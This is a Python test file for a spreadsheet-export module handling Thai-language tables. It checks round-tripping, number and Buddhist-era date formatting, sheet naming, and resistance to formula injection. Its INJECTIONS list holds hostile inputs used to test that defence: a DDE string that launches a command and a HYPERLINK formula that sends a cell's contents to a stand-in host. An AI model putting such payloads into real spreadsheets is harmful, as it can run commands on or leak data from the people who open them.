"""Every table leaves as a workbook that computes nothing and says the same when it is read back."""

import csv
import datetime
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from workflow.sheets.cells import clean, read_amount, read_date, read_text, read_whole
from workflow.sheets.rows import table_in
from workflow.sheets.tables import AMOUNT_FORMAT, Column, sheet_name, workbook_of
from workflow.sheets.workbook import open_workbook

COLUMNS = (
    Column("ชื่อโครงการ"),
    Column("วงเงิน", "amount"),
    Column("วันที่", "date"),
    Column("จำนวน", "whole"),
)
INJECTIONS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"คลิก")',
    "+66 81",
    "-ลดรายจ่าย",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "＝1+1",
)
ROWS = st.lists(
    st.tuples(
        st.text(max_size=80).filter(lambda text: clean(text) != ""),
        st.integers(-(10**13), 10**13),
        st.dates(datetime.date(1950, 1, 1), datetime.date(2100, 1, 1)),
        st.integers(0, 10**9),
    ),
    max_size=6,
)


@given(ROWS)
def test_what_went_out_comes_back(rows: list[tuple[str, int, datetime.date, int]]) -> None:
    (sheet,) = open_workbook(workbook_of("ตาราง", COLUMNS, rows))
    found = [
        (
            read_text(sheet.value(number, 1)),
            read_amount(sheet.value(number, 2), negative=True),
            read_date(sheet.value(number, 3)),
            read_whole(sheet.value(number, 4)),
        )
        for number in range(2, len(rows) + 2)
    ]
    assert found == [(clean(title), amount, day, count) for title, amount, day, count in rows]


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_cell_starts_a_formula_in_excel_or_as_csv(text: str) -> None:
    data = workbook_of("=ตาราง", (Column(text),), [(text,)])
    book = load_workbook(io.BytesIO(data))
    stream = io.StringIO()
    writer = csv.writer(stream)
    for row in book.worksheets[0].iter_rows():
        assert [cell.data_type for cell in row] == ["s"]
        writer.writerow([cell.value for cell in row])
    for (value,) in csv.reader(io.StringIO(stream.getvalue())):
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    (sheet,) = open_workbook(data)
    assert read_text(sheet.value(2, 1)) == clean(text)


def test_amounts_are_numbers_dates_are_buddhist_and_the_heading_stays_in_sight() -> None:
    rows = [("โครงการ ก", 123456, datetime.date(2018, 1, 12), 3), ("โครงการ ข", None, None, None)]
    sheet = load_workbook(io.BytesIO(workbook_of("แผน", COLUMNS, rows))).worksheets[0]
    assert [cell.value for cell in sheet[2]] == ["โครงการ ก", 1234.56, "12 ม.ค. 2561", 3]
    assert sheet["B2"].number_format == AMOUNT_FORMAT == "#,##0.00"
    assert sheet["B2"].data_type == "n"
    assert [cell.value for cell in sheet[3]] == ["โครงการ ข", None, None, None]
    assert sheet.freeze_panes == "A2"
    widths = [sheet.column_dimensions[letter].width for letter in "ABCD"]
    assert all(8 <= width <= 60 for width in widths)
    table = table_in(open_workbook(workbook_of("แผน", COLUMNS, rows))[0], [each.heading for each in COLUMNS])
    assert len(list(table.rows())) == 2


def test_a_row_of_another_length_is_a_mistake() -> None:
    with pytest.raises(ValueError, match="zip"):
        workbook_of("แผน", COLUMNS, [("โครงการ ก", 1)])


@pytest.mark.parametrize(
    ("title", "taken", "name"),
    [
        ("แผน 2561/ไตรมาส [1]:*?\\", (), "แผน 2561 ไตรมาส  1"),
        ("", (), "ตาราง"),
        ("'''", (), "ตาราง"),
        ("ก" * 40, (), "ก" * 31),
        ("แผน", ("แผน",), "แผน 2"),
        ("History", (), "History 2"),
    ],
)
def test_sheet_names_are_ones_excel_accepts(title: str, taken: tuple[str, ...], name: str) -> None:
    assert sheet_name(title, taken) == name
